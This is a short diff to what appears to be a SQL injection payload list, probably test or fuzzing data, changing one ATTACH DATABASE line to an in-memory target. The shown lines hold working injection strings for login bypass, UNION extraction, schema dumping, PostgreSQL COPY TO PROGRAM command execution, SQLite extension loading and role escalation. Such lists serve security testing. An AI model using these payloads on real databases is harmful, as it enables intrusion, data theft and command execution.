@@ -63,7 +63,7 @@ admin'--
 ' UNION ALL SELECT NULL, NULL, NULL --
 " UNION SELECT sql, 1, 1 FROM sqlite_master --
 '; COPY canary TO PROGRAM 'id'; --
-'; ATTACH DATABASE 'planted.sqlite' AS planted; --
+'; ATTACH DATABASE ':memory:' AS planted; --
 '; SELECT load_extension('planted'); --
 '; PRAGMA writable_schema = ON; --
 '; SET ROLE postgres; --
